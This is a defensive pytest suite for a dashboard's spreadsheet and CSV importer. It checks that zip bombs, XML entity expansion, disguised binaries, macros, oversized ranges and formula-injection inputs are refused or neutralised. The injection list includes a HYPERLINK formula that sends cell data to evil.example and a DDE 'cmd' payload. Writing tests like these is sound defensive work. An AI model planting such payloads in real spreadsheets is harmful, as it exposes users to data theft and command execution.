"""A corpus of hostile files: each is refused or neutralised with a clear message.

Every file is built in code (``tests/hostile.py``). Cases that could exhaust
memory if the reader regressed (zip bombs, huge used ranges) are read in a child
process whose address space is capped, so a regression fails the test instead of
taking the run down. Nothing here asserts on timings; the timeout markers only
make sure each case completes.
"""

from __future__ import annotations

import contextlib
import io
import re
import threading
import zipfile
from datetime import date

import openpyxl
import pandas as pd
import pytest
from sqlalchemy import text

from dashboard.exports import csv_bytes, excel_bytes
from data_access.importer import import_order, reader
from data_access.services import import_file
from tests import hostile
from tests import workbooks as wb

pytestmark = pytest.mark.timeout(120)

ENGAGEMENT_HEADER = ["Contract reference", "Package ID", "LA", "Support type", "Participant ID", "Role", "Start date"]


def engagement_values(package: str = "PKG-H", participant: str = "P-H") -> list:
    return ["CON-1", package, "Sefton", "Group", participant, "Leader", "01/06/2021"]


@pytest.fixture
def seeded(engine):
    wb.seed(engine)
    return engine


def refused(engine, file_name: str, data: bytes, *words: str) -> str:
    """Import ``data``; assert it is refused with one clear line naming the file, and wrote nothing."""
    before = wb.table_counts(engine)
    outcome = import_file(engine, file_name, data, "hostile")
    assert outcome.import_id is None and not outcome.plan.ok
    lines = [str(problem) for problem in outcome.plan.errors]
    assert all(line.startswith(f"{file_name}:") for line in lines), lines
    message = " ".join(lines)
    for word in words:
        assert word in message, message
    assert wb.table_counts(engine) == before
    with engine.connect() as connection:
        outcomes = (
            connection.execute(text("SELECT outcome FROM imports WHERE file_name = :f"), {"f": file_name})
            .scalars()
            .all()
        )
    assert outcomes == ["rejected"]  # the rejection is logged, its data is not written
    return message


# --- Not what the extension says ------------------------------------------------------------


@pytest.mark.parametrize(
    "content",
    [b"Package ID,LA\nPKG-1,Sefton\n", hostile.ELF, hostile.MZ, hostile.PDF, hostile.OLE_HEADER],
    ids=["csv", "elf", "mz", "pdf", "old-xls"],
)
@pytest.mark.parametrize("extension", [".xlsx", ".xlsm"])
def test_a_workbook_that_is_really_something_else_is_refused(engine, content, extension):
    refused(engine, f"return{extension}", content, f"not a real {extension} workbook")


@pytest.mark.parametrize(
    "content",
    [
        hostile.ELF,
        hostile.MZ,
        hostile.PDF,
        hostile.OLE_HEADER,
        hostile.package({"Engagements": hostile.simple_sheet([ENGAGEMENT_HEADER])}),
    ],
    ids=["elf", "mz", "pdf", "old-xls", "xlsx"],
)
def test_a_csv_that_is_really_a_binary_file_is_refused(engine, content):
    refused(engine, "return.csv", content, "not a CSV text file")


@pytest.mark.parametrize("file_name", ["return.xls", "return.exe", "return.xlsb", "return"])
def test_other_extensions_are_refused(engine, file_name):
    refused(engine, file_name, b"anything", "only .xlsx, .xlsm and .csv files are read")


def test_a_workbook_without_a_workbook_part_is_refused(engine):
    data = hostile.write_zip({"[Content_Types].xml": b"<Types/>", "readme.txt": b"hello"})
    refused(engine, "return.xlsx", data, "no workbook part inside")


def zip_flags_patched(data: bytes, *, encrypted: bool = False, method: int | None = None) -> bytes:
    """``data`` with every zip entry marked encrypted, or its compression method replaced, in both the
    local and the central headers (as a password-zipping tool or a damaged file leaves them)."""
    patched = bytearray(data)
    for signature, flags_at, method_at in ((b"PK\x03\x04", 6, 8), (b"PK\x01\x02", 8, 10)):
        for found in re.finditer(re.escape(signature), data):
            start = found.start()
            if encrypted:
                patched[start + flags_at] |= 1
            if method is not None:
                patched[start + method_at : start + method_at + 2] = method.to_bytes(2, "little")
    return bytes(patched)


@pytest.mark.parametrize(
    "how, words",
    [
        ({"encrypted": True}, ("zipped with a password", "without one")),
        ({"method": 12}, ("not a readable .xlsx workbook", "damaged zip")),  # bzip2 that does not decompress
        ({"method": 99}, ("not a readable .xlsx workbook", "damaged zip")),  # a method no reader knows
    ],
    ids=["password", "bad-bzip2", "unknown-method"],
)
def test_a_zip_with_a_password_or_a_broken_compression_is_refused(engine, how, words):
    data = wb.xlsx(wb.quarterly_return(engagements=[wb.engagement_row()]))
    refused(engine, "return.xlsx", zip_flags_patched(data, **how), *words)
    assert import_order([("return.xlsx", zip_flags_patched(data, **how))]) == [0]  # the batch order never fails


def test_a_truncated_zip_is_refused(engine):
    data = hostile.truncated(wb.xlsx(wb.quarterly_return(engagements=[wb.engagement_row()])))
    refused(engine, "return.xlsx", data, "damaged zip")


# --- Size limits and zip bombs ---------------------------------------------------------------


def test_a_file_over_the_upload_limit_is_refused_before_parsing(engine, monkeypatch):
    monkeypatch.setenv("DASHBOARD_MAX_UPLOAD_MB", "1")
    data = b"Package ID,LA\n" + b"PKG-1,Sefton\n" * 120_000  # 1.6 MB
    message = refused(engine, "return.csv", data, "the limit is 1 MB")
    assert "the file is 1.6 MB" in message


@pytest.mark.slow
def test_a_zip_bomb_is_refused_without_inflating_it(engine, tmp_path):
    bomb = hostile.zip_bomb(300)  # 300 MB of zeros in about 0.3 MB
    assert len(bomb) < 2 << 20
    assert "refused" in hostile.read_in_capped_process(tmp_path, "bomb.xlsx", bomb, memory_mb=1024)
    refused(engine, "bomb.xlsx", bomb, "unpacks to 300 MB", "the limit is 200 MB")


def test_the_unpacked_limit_comes_from_the_settings(engine, monkeypatch):
    monkeypatch.setenv("DASHBOARD_MAX_UNPACKED_MB", "1")
    data = hostile.package({"Engagements": hostile.many_rows_part(15_000)})  # ~2.5 MB unpacked
    refused(engine, "return.xlsx", data, "the limit is 1 MB")


def test_a_member_that_lies_about_its_size_is_refused_within_memory(engine, tmp_path):
    """A sheet declaring 5 kB that inflates to ~50 MB: no reader may believe the header."""
    data = hostile.lying_sizes(
        hostile.package({"Engagements": hostile.many_rows_part(300_000)}, compresslevel=1),
        "xl/worksheets/sheet1.xml",
        5_000,
    )
    result = hostile.read_in_capped_process(tmp_path, "liar.xlsx", data, memory_mb=1024)
    assert "declared uncompressed size" in result["refused"] or "damaged" in result["refused"]
    refused(engine, "liar.xlsx", data, "cannot be read")


# --- XML entity expansion ----------------------------------------------------------------------


@pytest.mark.parametrize("where", ["sheet", "sheet-after-padding", "shared-strings"])
def test_xml_entity_expansion_is_refused(engine, tmp_path, where):
    if where == "shared-strings":
        data = hostile.package(
            {"Engagements": hostile.simple_sheet([ENGAGEMENT_HEADER])},
            extra_parts={"xl/sharedStrings.xml": hostile.entity_shared_strings()},
        )
        part = "xl/sharedStrings.xml"
    else:
        padding = 10_000 if where == "sheet-after-padding" else 0  # the DOCTYPE after the first bytes
        data = hostile.package({"Engagements": hostile.entity_sheet(padding=padding)})
        part = "xl/worksheets/sheet1.xml"
    assert "refused" in hostile.read_in_capped_process(tmp_path, "laughs.xlsx", data, memory_mb=1024)
    refused(engine, "laughs.xlsx", data, f"the workbook part {part} declares XML entities")


def test_a_nul_character_in_a_workbook_cell_is_refused(engine):
    data = hostile.package({"Engagements": hostile.simple_sheet([ENGAGEMENT_HEADER, engagement_values("PKG_x0000_")])})
    refused(engine, "return.xlsx", data, "NUL characters")


# --- Huge used ranges ------------------------------------------------------------------------------


def test_a_cell_at_row_1048576_is_refused_without_building_the_grid(engine, tmp_path):
    sheet = hostile.sheet_xml(
        hostile.rows_xml({1: ENGAGEMENT_HEADER, 2: engagement_values(), 1_048_576: ["stray"]}), dimension="A1:G1048576"
    )
    data = hostile.package({"Engagements": sheet})
    result = hostile.read_in_capped_process(tmp_path, "tall.xlsx", data, memory_mb=1024)
    assert "row 1,048,576" in result["refused"]
    refused(
        engine,
        "tall.xlsx",
        data,
        "'Engagements' uses cells as far as row 1,048,576 and column G",
        "delete the rows and columns beyond the table",
    )


def test_a_cell_at_xfd1048576_does_not_abort_the_process(engine, tmp_path):
    """Calamine would ask for 17 billion cells and abort; the used range is measured first."""
    sheet = hostile.sheet_xml(
        '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>',
        dimension="A1:XFD1048576",
    )
    data = hostile.package({"Engagements": sheet})
    assert "column XFD" in hostile.read_in_capped_process(tmp_path, "corner.xlsx", data, memory_mb=1024)["refused"]
    refused(engine, "corner.xlsx", data, "as far as row 1,048,576 and column XFD")


@pytest.mark.parametrize(
    "stray",
    [
        '<row r="1048576"><c r="G1048576"><v>1</v></c></row>',  # below the declared range
        '<row r="1000"><c r="XFD1000"><v>1</v></c></row>',  # right of it
        '<row r="1048576"><c r="g1048576"><v>1</v></c></row>',  # a reference not written as Excel writes it
        '<row r="1048576"><x:c xmlns:x="'
        + hostile.MAIN_NS
        + '" r="G1048576"><x:v>1</x:v></x:c></row>',  # a prefixed cell
        '<row r="1048576"><c s="1" r="G1048576"><v>1</v></c></row>',  # r= not the first attribute
    ],
)
def test_a_dimension_that_understates_the_used_range_is_not_trusted(tmp_path, stray):
    """The declared <dimension> is used only when no cell lies beyond it; here one does."""
    rows = hostile.rows_xml([ENGAGEMENT_HEADER, engagement_values()])
    data = hostile.package({"Engagements": hostile.sheet_xml(rows + stray, dimension="A1:G2")})
    assert "refused" in hostile.read_in_capped_process(tmp_path, "understated.xlsx", data, memory_mb=1024)


@pytest.mark.parametrize("dimension", ["A1:G2", None], ids=["understated", "no-dimension"])
@pytest.mark.parametrize(
    "stray",
    [
        '<row r="1000"><c a=">" r="XFD1000"><v>1</v></c></row>',  # a quoted ">" before r=
        '<row r="3"><c r="A3" t="n" r="XFD1048576"><v>1</v></c></row>',  # a second r= (calamine takes the last)
        '<row r="1048576"><c r="AAAA1048576"><v>1</v></c></row>',  # four column letters (calamine reads them)
        '<row a=">" r="1048576">' + "<c><v>1</v></c>" * 20 + "</row>",  # a row number after a quoted ">"
        '<row r="1048576"><c r="A1"><v>1</v></c>' + "<c><v>1</v></c>" * 20 + "</row>",  # after A1, in row 1,048,576
    ],
    ids=["quoted-gt", "second-r", "four-letters", "row-after-quoted-gt", "row-kept-after-a-reference"],
)
def test_cells_placed_as_calamine_places_them_are_measured(tmp_path, stray, dimension):
    """Calamine reads tags as an XML parser does and places a cell without r= in its row, after the
    cell before; the used range is measured the same way (these once aborted or passed the limit)."""
    rows = hostile.rows_xml([ENGAGEMENT_HEADER, engagement_values()])
    sheet = hostile.sheet_xml(rows + stray, dimension="A1:G2")
    if dimension is None:
        sheet = sheet.replace(b'<dimension ref="A1:G2"/>', b"")
    data = hostile.package({"Engagements": sheet})
    assert "refused" in hostile.read_in_capped_process(tmp_path, "hidden.xlsx", data, memory_mb=1024)


def test_a_sheet_part_the_reader_cannot_find_is_looked_for_in_every_part(tmp_path):
    """A relationship the reader does not follow (single quotes): every other part is measured."""
    sheet = hostile.sheet_xml(
        '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    )
    with zipfile.ZipFile(io.BytesIO(hostile.package({"Engagements": sheet}))) as package:
        parts = {name: package.read(name) for name in package.namelist()}
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
        b'Target="worksheets/sheet1.xml"', b"Target='worksheets/sheet1.xml'"
    )
    result = hostile.read_in_capped_process(tmp_path, "quoted.xlsx", hostile.write_zip(parts), memory_mb=1024)
    assert "column XFD" in result["refused"]


@pytest.mark.timeout(60)
@pytest.mark.parametrize(
    "body",
    [
        '<row r="1"><c r="A1"' + ' r="A1"' * 100_000 + "/></row>",  # one cell tag, 100,000 attributes
        '<row r="1">' + '<c r="A1" t="e">' * 100_000 + "</c></row>",  # error cells never closed
        '<row r="1"><c r="A1">' + "<f" * 200_000 + "</c></row>",  # formula tags never closed
    ],
    ids=["attributes", "unclosed-cells", "unclosed-formulas"],
)
def test_small_hostile_sheets_take_no_time(body):
    """Each took minutes (a regex backtracking, or a search rescanning the part for every cell)."""
    before = threading.active_count()
    data = hostile.package({"Engagements": hostile.sheet_xml(body).replace(b'<dimension ref="A1"/>', b"")})
    with contextlib.suppress(reader.FileRefused):
        reader.read_file("slow.xlsx", data)
    assert threading.active_count() == before  # the problem-cell worker is gone


def test_an_honest_dimension_is_the_used_range():
    rows = hostile.rows_xml([ENGAGEMENT_HEADER, engagement_values()])
    data = hostile.package({"Engagements": hostile.sheet_xml(rows, dimension="A1:G2")})
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        assert reader._range_of_excel_cells(package.read("xl/worksheets/sheet1.xml")) == (2, 7)


def test_cells_without_references_are_counted_too(tmp_path):
    """Cells may omit r=; their position follows the row and the cells before them."""
    body = '<row r="1"><c><v>1</v></c></row><row r="1048576">' + "<c><v>1</v></c>" * 20 + "</row>"
    data = hostile.package({"Engagements": hostile.sheet_xml(body)})
    assert "column T" in hostile.read_in_capped_process(tmp_path, "norefs.xlsx", data, memory_mb=1024)["refused"]


def test_a_styled_empty_cell_far_away_is_harmless(seeded):
    """Formatting (a cell with a style but no value) far below the table is not a used cell."""
    rows = hostile.rows_xml([ENGAGEMENT_HEADER, engagement_values()])
    sheet = hostile.sheet_xml(rows + '<row r="1048576"><c r="XFD1048576" s="1"/></row>', dimension="A1:XFD1048576")
    outcome = import_file(seeded, "styled.xlsx", hostile.package({"Engagements": sheet}), "hostile")
    assert outcome.plan.ok, [str(p) for p in outcome.plan.errors]
    assert outcome.plan.totals()["inserted"] == 1


def test_16384_columns_are_read_and_the_extra_ones_ignored(seeded, tmp_path):
    header = ENGAGEMENT_HEADER + [None] * (16_384 - len(ENGAGEMENT_HEADER) - 1) + ["Far notes"]
    row = engagement_values() + [None] * (16_384 - len(ENGAGEMENT_HEADER) - 1) + ["far away"]
    data = hostile.package({"Engagements": hostile.sheet_xml(hostile.rows_xml([header, row]), dimension="A1:XFD2")})
    assert hostile.read_in_capped_process(tmp_path, "wide.xlsx", data, memory_mb=1024)["sheets"] == [
        ["Engagements", 2, 16_384]
    ]
    outcome = import_file(seeded, "wide.xlsx", data, "hostile")
    assert outcome.plan.ok, [str(p) for p in outcome.plan.errors]
    assert outcome.plan.totals()["inserted"] == 1


# --- Macros -------------------------------------------------------------------------------------


def test_an_xlsm_with_a_macro_imports_its_data_and_never_runs_the_macro(seeded, tmp_path):
    """What happens: the vbaProject.bin part is never opened (calamine reads only the sheets);
    the sheet data imports as from any workbook, and the auto-open macro does nothing."""
    marker = tmp_path / "pwned"
    macro = hostile.vba_project().replace(b"/tmp/pwned", str(marker).encode())
    data = hostile.package(
        {"Engagements": hostile.simple_sheet([ENGAGEMENT_HEADER, engagement_values()])},
        macro=True,
        extra_parts={"xl/vbaProject.bin": macro},
        extra_content_types='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
    )
    outcome = import_file(seeded, "return.xlsm", data, "hostile")
    assert outcome.plan.ok, [str(p) for p in outcome.plan.errors]
    assert outcome.plan.totals()["inserted"] == 1
    assert not marker.exists()


# --- Formulas -------------------------------------------------------------------------------------


@pytest.mark.parametrize("code", ["#REF!", "#DIV/0!", "#N/A", "#VALUE!"])
def test_a_formula_with_an_error_value_is_a_row_error(seeded, code):
    row = wb.engagement_row({"Package ID": wb.Formula("A1/0", code), "Participant ID": "P-ERR"})
    message = refused(seeded, "errors.xlsx", wb.xlsx(wb.quarterly_return(engagements=[row])))
    assert f"errors.xlsx:Engagements:2:Package ID: the cell holds the Excel error {code}" in message


@pytest.mark.parametrize("column", ["Package ID", "Start date", "LA"])
def test_a_formula_without_a_cached_value_in_a_required_column_is_a_row_error(seeded, column):
    row = wb.engagement_row({column: wb.Formula("VLOOKUP(A2,Lookup!A:B,2,FALSE)")})
    message = refused(seeded, "uncached.xlsx", wb.xlsx(wb.quarterly_return(engagements=[row])))
    assert (
        f"uncached.xlsx:Engagements:2:{column}: the formula =VLOOKUP(A2,Lookup!A:B,2,FALSE) has no saved value"
        in message
    )


def test_a_formula_with_a_cached_value_uses_the_value(seeded):
    row = wb.engagement_row({"Package ID": wb.Formula('"PKG-"&"F"', "PKG-F"), "Participant ID": "P-F"})
    outcome = import_file(seeded, "cached.xlsx", wb.xlsx(wb.quarterly_return(engagements=[row])), "hostile")
    assert outcome.plan.ok, [str(p) for p in outcome.plan.errors]
    assert outcome.plan.sheets[0].rows[0].values["package_id"] == "PKG-F"


# --- Formula injection -------------------------------------------------------------------------------

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "=1+1",
    "\t=1+1",
]
STORED = sorted(payload.strip() for payload in INJECTIONS)  # surrounding spaces and tabs are trimmed, as for all text


def _engagements_frame(engine) -> pd.DataFrame:
    with engine.connect() as connection:
        return pd.read_sql(
            text(
                "SELECT package_id, participant_id, participant_name, delivered_by FROM engagements "
                "WHERE participant_id LIKE 'INJ-%' ORDER BY participant_id"
            ),
            connection,
        )


@pytest.mark.parametrize("how", ["xlsx", "csv"])
def test_formula_injection_text_is_stored_as_text_and_neutralised_on_export(seeded, how):
    header = ENGAGEMENT_HEADER + ["Participant name", "Delivered by"]
    rows = [engagement_values(f"PKG-INJ-{i}", f"INJ-{i}") + [payload, payload] for i, payload in enumerate(INJECTIONS)]
    if how == "xlsx":  # inline strings: text cells, as Excel saves text that starts with "="
        data, name = hostile.package({"Engagements": hostile.simple_sheet([header] + rows)}), "inject.xlsx"
    else:
        data, name = wb.csv_bytes(wb.SheetSpec("Engagements", [dict(zip(header, row)) for row in rows])), "inject.csv"
    outcome = import_file(seeded, name, data, "hostile")
    assert outcome.plan.ok, [str(p) for p in outcome.plan.errors]

    frame = _engagements_frame(seeded)
    assert sorted(frame["participant_name"]) == STORED  # stored as written (trimmed), as text
    assert list(frame["delivered_by"]) == list(frame["participant_name"])

    exported = pd.read_csv(io.BytesIO(csv_bytes(frame)), encoding="utf-8-sig", dtype=str, keep_default_na=False)
    for value in exported["participant_name"]:
        assert value.startswith("'") and value[1:] in STORED
    book = openpyxl.load_workbook(io.BytesIO(excel_bytes({"Engagements": frame})))
    for (cell,) in book["Engagements"].iter_rows(min_row=2, min_col=3, max_col=3):
        assert cell.data_type == "s" and cell.value.startswith("'") and cell.value[1:] in STORED


# --- CSV encodings ---------------------------------------------------------------------------------


def test_a_csv_with_nul_bytes_is_refused_wherever_they_are(engine):
    data = b"Package ID,LA\n" + b"PKG,Sefton\n" * 10_000 + b"PKG\x00,Sefton\n"  # beyond the first 64 kB
    refused(engine, "nul.csv", data, "not a CSV text file")


def test_a_csv_in_no_known_encoding_is_refused(engine):
    data = b"Package ID,LA\n\x81\x8d\x8f\x90\x9d,Sefton\n"  # invalid UTF-8, undefined in Windows-1252
    refused(engine, "encoding.csv", data, "not UTF-8 or Windows-1252 text")


def test_a_csv_with_a_huge_field_is_refused_not_a_crash(engine):
    data = b'Package ID,LA\n"' + b"x" * 200_000 + b'",Sefton\n'
    refused(engine, "huge.csv", data, "cannot be read at line", "field larger than field limit")


def test_a_windows_1252_csv_is_decoded(seeded):
    spec = wb.SheetSpec(
        "Engagements", [wb.engagement_row({"Participant name": "Zoë £ Brontë", "Start date": date(2021, 6, 1)})]
    )
    outcome = import_file(seeded, "cp1252.csv", wb.csv_bytes(spec, encoding="cp1252"), "hostile")
    assert outcome.plan.ok, [str(p) for p in outcome.plan.errors]
    assert outcome.plan.sheets[0].rows[0].values["participant_name"] == "Zoë £ Brontë"


# --- Values the database columns cannot hold ---------------------------------------------------------


@pytest.mark.parametrize(
    "kind, override, column",
    [
        ("engagements", {"Package ID": "P" * 81}, "Package ID"),
        ("engagements", {"Participant name": "N" * 201}, "Participant name"),
        ("engagements", {"Days delivered": 10**9}, "Days delivered"),
        ("finance", {"Amount": 10**13}, "Amount"),
        ("finance", {"Line": 10**10}, "Line"),
        # past the 28 digits of Decimal's default precision: pence and the limit check must not crash
        ("finance", {"Amount": 1e26}, "Amount"),
        ("engagements", {"Days delivered": 1e300}, "Days delivered"),
        ("finance", {"Amount": "£" + "9" * 40}, "Amount"),
    ],
)
def test_values_too_big_for_their_column_are_row_errors_on_every_backend(seeded, kind, override, column):
    message = refused(seeded, "big.xlsx", wb.xlsx(wb.one_row(kind, override)))
    assert f"big.xlsx:{kind.capitalize()}:2:{column}: " in message and (
        "too large" in message or "characters long" in message
    )


@pytest.mark.parametrize(
    "kind, override, column",
    [
        ("engagements", {"Start date": "01/01/0000"}, "Start date"),  # year 0: no such date in Python
        ("engagements", {"End date": date(9999, 12, 31)}, "End date"),  # its "+3 months" would not exist
        ("engagements", {"End date": 2958465}, "End date"),  # 31/12/9999 as an Excel date number
        ("contracts", {"Extension up to": "1 Apr 9999"}, "Extension up to"),  # its deadlines would not exist
        ("finance", {"Invoice date": "31/12/1899"}, "Invoice date"),
    ],
)
def test_dates_outside_the_dashboards_range_are_row_errors_not_crashes(seeded, kind, override, column):
    """Dates from 01/01/1900 to 31/12/2199: a date nearer the end of the calendar made the figures
    crash once it was stored (the window's end, the FY's end or a deadline past year 9999)."""
    message = refused(seeded, "far.xlsx", wb.xlsx(wb.one_row(kind, override)))
    assert f"far.xlsx:{kind.capitalize()}:" in message and f":{column}: " in message
    assert "dates must be from 01/01/1900 to 31/12/2199" in message


@pytest.mark.parametrize("year", ["0000-01", "0999-00", "2200-01"])
def test_financial_years_outside_the_dashboards_range_are_row_errors(seeded, year):
    message = refused(seeded, "fy.xlsx", wb.xlsx(wb.one_row("finance", {"Financial year": year})))
    assert ":Financial year: expected a financial year" in message


@pytest.mark.parametrize(
    "file_name, contract, stored",
    [
        ("reg\udcff.xlsx", None, "reg?.xlsx"),  # an undecodable byte of a command-line file name
        ("reg\x00.xlsx", None, "reg.xlsx"),  # PostgreSQL text cannot hold NUL
        ("return.xlsx", "CON-1\x00", "return.xlsx"),
    ],
)
def test_file_names_and_contract_options_the_database_cannot_hold_are_made_storable(
    seeded, file_name, contract, stored
):
    outcome = import_file(
        seeded, file_name, wb.xlsx(wb.quarterly_return(engagements=[wb.engagement_row()])), "hostile", contract=contract
    )
    assert outcome.plan.ok and outcome.import_id, [str(problem) for problem in outcome.plan.errors]
    with seeded.connect() as connection:
        assert (
            connection.execute(text("SELECT file_name FROM imports WHERE id = :i"), {"i": outcome.import_id}).scalar()
            == stored
        )


def test_an_la_on_two_la_status_tabs_is_one_history_not_a_clash(seeded):
    """Two LA status tabs naming Sefton were checked apart, then clashed in the database ("try again")."""
    data = wb.xlsx(
        wb.SheetSpec("LA status", [wb.la_status_row()]),
        wb.SheetSpec("LA status March", [wb.la_status_row({"ILACS judgement": "Inadequate"})]),
    )
    outcome = import_file(seeded, "status.xlsx", data, "hostile")
    assert outcome.plan.ok and outcome.import_id, [str(problem) for problem in outcome.plan.errors]
    with seeded.connect() as connection:
        latest = (
            connection.execute(
                text(
                    "SELECT ilacs_judgement FROM la_status WHERE la_code = 'E08000014' AND source = 'import' "
                    "ORDER BY effective_date DESC, id DESC"
                )
            )
            .scalars()
            .first()
        )
    assert latest == "Inadequate"  # the last tab's row is the LA's current status


def test_an_overlong_file_name_and_contract_label_are_still_logged(engine):
    name = "r" * 300 + ".xlsx"
    data = wb.xlsx([wb.part_a_sheet(contract="C" * 100)])
    outcome = import_file(engine, name, data, "hostile")
    assert not outcome.plan.ok and "unknown contract" in str(outcome.plan.errors[0])
    with engine.connect() as connection:
        stored = connection.execute(text("SELECT file_name, contract_reference FROM imports")).one()
    assert stored == (name[:260], "C" * 60)
